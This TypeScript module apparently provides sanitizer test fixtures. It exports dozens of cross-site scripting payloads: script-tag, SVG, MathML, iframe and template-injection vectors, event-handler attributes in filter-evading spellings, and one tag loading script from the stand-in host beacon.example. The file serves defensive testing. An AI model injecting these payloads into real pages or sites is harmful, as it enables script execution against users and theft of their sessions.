import { BEACON, RUN } from './marks.ts';

/** Markup that runs script in places that show markup. */
const ELEMENTS = [
  `<script type=module>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//beacon.example/hit.js async></script>`,
  `<script>/*</script><script>*/${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `\`\${${RUN}}\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${7*7}<%= 7*7 %>#{7*7}{{7*7}}`,
  `<svg/onload=${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
  `<svg><image href="${BEACON}.svg"/></svg>`,
  `<svg><filter><feImage href="${BEACON}.svg"/></filter></svg>`,
  `<math><maction actiontype="statusline#${BEACON}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<object type="text/html" data="javascript:${RUN}"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<iframe src="data:text/html,<script>parent.wasRun=1</script>"></iframe>`,
  `<iframe sandbox="allow-scripts" srcdoc="<script>parent.postMessage('wasRun','*')</script>"></iframe>`,
  `<frameset onload=${RUN}><frame src="${BEACON}"></frameset>`,
  `<portal src="${BEACON}"></portal>`,
  `<fencedframe src="${BEACON}"></fencedframe>`,
  `<applet code="${BEACON}.class"></applet>`,
  `<bgsound src="${BEACON}.wav">`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<custom-element is="x-run" onclick=${RUN}>x</custom-element>`,
  `<slot name=x onslotchange=${RUN}></slot>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>ok</button></form></dialog>`,
  `<button popovertarget=root onclick=${RUN}>x</button>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<plaintext onclick=${RUN}>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<listing><script>${RUN}</script></listing>`,
];

const HANDLERS =
  'onabort onafterprint onanimationend onauxclick onbeforeinput onbeforetoggle oncontentvisibilityautostatechange oncopy oncut onfocusin onhashchange onmessage onpageshow onpaste onpointerenter onpointerrawupdate onresize onscroll onscrollend onscrollsnapchange onsecuritypolicyviolation onselectionchange ontransitionrun onunhandledrejection onwheel'.split(
    ' ',
  );

/** One for each way in which an element can listen by itself, in spellings that filters have missed. */
const LISTENERS = HANDLERS.map((handler, index) => {
  const spelling = [
    `<div ${handler}=${RUN} tabindex=0 contenteditable style="animation:x 1s">x</div>`,
    `<x/${handler.toUpperCase()}="${RUN}">x`,
    `<p\t${handler}\n=\n'${RUN}'>x</p>`,
    `<img/src=x/${handler}=${RUN}//`,
    `<a href=# ${handler}=&#103;lobalThis.wasRun&#61;1>x</a>`,
  ];
  return spelling[index % spelling.length] as string;
});

export const SCRIPT = [...ELEMENTS, ...LISTENERS];
